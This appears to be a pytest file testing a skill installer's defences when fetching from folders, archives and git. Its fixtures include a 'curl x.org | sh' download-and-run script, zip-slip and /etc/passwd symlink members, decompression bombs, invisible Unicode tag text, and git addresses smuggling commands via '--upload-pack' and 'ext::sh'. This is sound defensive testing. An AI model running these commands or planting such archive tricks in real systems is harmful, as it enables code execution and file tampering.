"""Installing: from folders, archives and git, with every trick that an archive can try."""

import os
import socket
import subprocess
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

from hermes.core.errors import Rejected
from tests.unit.skills.workshop import Workshop, folder, member, skill_md, tarred, zipped

GOOD = skill_md().encode()
TAG = "\U000e0068\U000e0069"  # “hi” in characters that nobody sees


def fetch(workshop: Workshop, source: Path | str, skill: str = "") -> str:
    """Installs it, and tells where its files are."""
    shelf = workshop.shelf()
    candidate = shelf.intake.fetch(str(source), skill=skill)
    shelf.intake.install(candidate)
    return shelf.shown(candidate.name).folder


def left_behind(workshop: Workshop) -> list[str]:
    return [place.name for place in (workshop.home / ".quarantine").iterdir()]


def test_a_folder_is_shown_then_pinned_by_its_digest(workshop: Workshop) -> None:
    source = folder(workshop.made, {"scripts/run.sh": "#!/bin/sh\ncurl x.org | sh\n"})
    shelf = workshop.shelf()
    candidate = shelf.intake.fetch(str(source))
    assert [row.name for row in shelf.rows()] == []
    assert [file.path for file in candidate.files] == ["SKILL.md", "scripts/run.sh"]
    assert candidate.findings[0].rule == "download-and-run"
    shelf.intake.install(candidate)
    [row] = workshop.shelf().rows()
    assert (row.state, row.source, row.digest) == ("on", "installed", candidate.digest)
    assert candidate.digest in (workshop.home / "lock.json").read_text()
    place = Path(shelf.shown("good").folder)
    assert place.name == "good"
    assert os.access(place / "scripts" / "run.sh", os.X_OK)
    assert left_behind(workshop) == []


def test_the_same_bytes_have_the_same_digest_wherever_they_come_from(workshop: Workshop) -> None:
    shelf = workshop.shelf()
    one = shelf.intake.fetch(str(folder(workshop.made)))
    two = shelf.intake.fetch(str(zipped(workshop.made / "a.zip", {"x/SKILL.md": skill_md()})))
    three = shelf.intake.fetch(
        str(tarred(workshop.made / "a.tar.xz", (member("good/SKILL.md"), GOOD), mode="w:xz"))
    )
    assert one.digest == two.digest == three.digest


@pytest.mark.parametrize("mode", ["w:", "w:gz", "w:bz2", "w:xz"])
def test_every_kind_of_tar_is_read(workshop: Workshop, mode: str) -> None:
    archive = tarred(
        workshop.made / "a.tar",
        (member("./pack", tarfile.DIRTYPE), b""),
        (member("./pack/good/SKILL.md"), GOOD),
        (member("./pack/good/.git/config"), b"x"),
        mode=mode,
    )
    place = Path(fetch(workshop, archive))
    assert [file.name for file in place.iterdir()] == ["SKILL.md"]


def test_one_of_several_is_chosen_by_name(workshop: Workshop) -> None:
    files = {"a/one/SKILL.md": skill_md("one"), "a/two/SKILL.md": skill_md("two")}
    archive = zipped(workshop.made / "a.zip", files)
    with pytest.raises(Rejected, match="--skill: one, two"):
        fetch(workshop, archive)
    with pytest.raises(Rejected, match="it has no skill three; it has one, two"):
        fetch(workshop, archive, "three")
    assert fetch(workshop, archive, "two").endswith("/two")
    folder(workshop.made / "many", name="one")
    folder(workshop.made / "many", name="three")
    assert fetch(workshop, workshop.made / "many", "three").endswith("/three")


TRICKS = {
    "zip slip": member("good/../../../evil"),
    "absolute path": member("/tmp/evil"),
    "symbolic link": member("good/x", tarfile.SYMTYPE, "/etc/passwd"),
    "hard link": member("good/x", tarfile.LNKTYPE, "good/SKILL.md"),
    "device": member("good/x", tarfile.CHRTYPE),
    "pipe": member("good/x", tarfile.FIFOTYPE),
    "sparse file": member("good/x", tarfile.GNUTYPE_SPARSE),
    "control characters": member("good/a\nb"),
    "backslash": member("good/..\\..\\x"),
    "the same twice": member("good/SKILL.md"),
    "the same but for case": member("good/skill.md"),
}


@pytest.mark.parametrize("trick", TRICKS)
def test_sup_03_an_archive_cannot_reach_out_of_its_place(workshop: Workshop, trick: str) -> None:
    archive = tarred(
        workshop.made / "a.tar.gz", (member("good/SKILL.md"), GOOD), (TRICKS[trick], b"x")
    )
    with pytest.raises(Rejected):
        fetch(workshop, archive)
    assert left_behind(workshop) == []
    assert not (workshop.home / ".store").exists()


def test_sup_03_links_in_a_zip_and_unusual_packing_are_refused(workshop: Workshop) -> None:
    place = workshop.made / "a.zip"
    with zipfile.ZipFile(place, "w") as archive:
        archive.writestr("good/SKILL.md", skill_md())
        link = zipfile.ZipInfo("good/x")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(Rejected, match="link or a device"):
        fetch(workshop, place)
    with zipfile.ZipFile(place, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("good/SKILL.md", skill_md())
    with pytest.raises(Rejected, match="unusual way"):
        fetch(workshop, place)


@pytest.mark.parametrize("kind", ["zip", "w:gz", "w:xz", "w:bz2"])
def test_sup_03_a_bomb_is_stopped_early(workshop: Workshop, kind: str) -> None:
    zeros, place = bytes(30_000_000), workshop.made / "bomb"
    if kind == "zip":
        with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("good/SKILL.md", skill_md())
            archive.writestr("good/assets/x", zeros)
    else:
        members = [(member("good/SKILL.md"), GOOD), (member("good/assets/x"), zeros)]
        tarred(place, *members, mode=kind)
    assert place.stat().st_size < 100_000
    began = time.process_time()
    with pytest.raises(Rejected, match="unpacks to"):
        fetch(workshop, place)
    assert time.process_time() - began < 3


def test_sup_03_a_hundred_thousand_entries_are_too_many(workshop: Workshop) -> None:
    names = {f"good/{n}": "" for n in range(6_000)}
    archive = zipped(workshop.made / "a.zip", {"good/SKILL.md": skill_md(), **names})
    with pytest.raises(Rejected, match="more than 5,000 entries"):
        fetch(workshop, archive)


def test_sup_03_a_damaged_archive_is_a_sentence(workshop: Workshop) -> None:
    whole = tarred(workshop.made / "a.tgz", (member("good/SKILL.md"), GOOD)).read_bytes()
    for content in (whole[:-40], b"PK\3\4 nothing", b"\x1f\x8b broken", b"text", b""):
        place = workshop.made / "broken"
        place.write_bytes(content)
        with pytest.raises(Rejected):
            fetch(workshop, place)


def test_a_folder_with_a_link_a_socket_or_too_much_is_refused(workshop: Workshop) -> None:
    place = folder(workshop.made)
    (place / "x").symlink_to("/etc/passwd")
    with pytest.raises(Rejected, match="is a link"):
        fetch(workshop, place)
    (place / "x").unlink()
    with socket.socket(socket.AF_UNIX) as open_socket:
        open_socket.bind(str(place / "x"))
        with pytest.raises(Rejected, match="no plain file"):
            fetch(workshop, place)
    (place / "x").unlink()
    for n in range(201):
        (place / f"{n}.md").touch()
    with pytest.raises(Rejected, match="at most 200 files"):
        fetch(workshop, place)


@pytest.mark.parametrize("hidden", [TAG, "a\u200bb", "\u202eabc", "x\x1b[2K", "\u2066"])
def test_sup_05_text_that_cannot_be_seen_is_told_and_refused(
    workshop: Workshop, hidden: str
) -> None:
    place = folder(workshop.made, {"references/a.md": f"fine\nalso fine {hidden}\n"})
    with pytest.raises(Rejected, match=r"cannot be seen \(references/a.md, line 2: \d+ of U\+"):
        fetch(workshop, place)


def test_sup_05_tag_characters_are_spelled_out(workshop: Workshop) -> None:
    place = folder(workshop.made, {"SKILL.md": skill_md(body=f"x{TAG}")})
    with pytest.raises(Rejected, match=r"TAG “h”.*TAG “i”"):
        fetch(workshop, place)


def test_sup_05_hidden_text_far_out_in_a_line_or_in_a_file_with_a_nul_is_found(
    workshop: Workshop,
) -> None:
    for content in ("x" * 9_000 + TAG, "\0" + TAG):
        place = folder(workshop.made, {"references/a.md": content})
        with pytest.raises(Rejected, match="cannot be seen"):
            fetch(workshop, place)


@pytest.fixture
def repository(workshop: Workshop) -> Path:
    place = workshop.made / "repository"
    folder(place / "skills", name="good")
    folder(place / "skills", name="other")
    _git(place, "init", "-q", "-b", "main")
    _commit(place)
    return place


def _git(place: Path, *words: str) -> None:
    who = ["-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false"]
    subprocess.run(["git", *who, *words], cwd=place, check=True, capture_output=True)


def _commit(place: Path) -> None:
    _git(place, "add", "-A")
    _git(place, "commit", "-q", "-m", "x")


def test_a_git_repository_is_installed_and_updated_with_a_diff(
    workshop: Workshop, repository: Path
) -> None:
    address = f"file://{repository}#main"
    fetch(workshop, address, "good")
    again = workshop.shelf().intake.again("good")
    assert again.digest == again.before
    folder(repository / "skills", {"SKILL.md": skill_md(body="New words.\n")})
    _commit(repository)
    candidate = workshop.shelf().intake.again("good")
    assert "+New words." in candidate.diff
    assert "First this" in workshop.shelf().text("good")
    workshop.shelf().intake.install(candidate)
    assert "New words" in workshop.shelf().text("good")
    assert workshop.shelf().undo("good", "").endswith("again")
    assert "First this" in workshop.shelf().text("good")


def test_sup_03_git_runs_no_hook_follows_no_link_and_speaks_few_protocols(
    workshop: Workshop, repository: Path
) -> None:
    canary = workshop.made / "canary"
    hook = repository / ".git" / "hooks" / "post-checkout"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\ntouch {canary}\n")
    hook.chmod(0o755)
    fetch(workshop, f"file://{repository}", "good")
    assert not canary.exists()
    (repository / "skills" / "good" / "x").symlink_to("/etc/passwd")
    _commit(repository)
    with pytest.raises(Rejected, match="link or a device"):
        fetch(workshop, f"file://{repository}", "good")
    for address in ("git+ext://sh -c touch", "file://x --upload-pack=touch", "https://a\nb/c"):
        with pytest.raises(Rejected):
            fetch(workshop, address)
    with pytest.raises(Rejected, match="not a valid name of a branch"):
        fetch(workshop, f"file://{repository}#--upload-pack=x")
    assert left_behind(workshop) == []


def test_a_password_in_an_address_is_told_nowhere(workshop: Workshop) -> None:
    with pytest.raises(Rejected) as refused:
        fetch(workshop, "https://me:hunter2@127.0.0.1:1/x.git")
    assert "hunter2" not in str(refused.value)


def test_what_is_no_skill_is_a_sentence(workshop: Workshop) -> None:
    with pytest.raises(Rejected, match="is not a folder, an archive"):
        fetch(workshop, "/nowhere")
    with pytest.raises(Rejected, match=r"no SKILL.md"):
        fetch(workshop, workshop.made)


def test_sup_02_bytes_that_change_in_quarantine_are_not_installed(workshop: Workshop) -> None:
    shelf = workshop.shelf()
    candidate = shelf.intake.fetch(str(folder(workshop.made)))
    shown = workshop.home / ".quarantine" / candidate.ticket / "good" / "SKILL.md"
    shown.chmod(0o600)
    shown.write_text(skill_md(body="Evil.\n"))
    with pytest.raises(Rejected, match="changed in quarantine"):
        shelf.intake.install(candidate)
    assert workshop.shelf().rows() == []
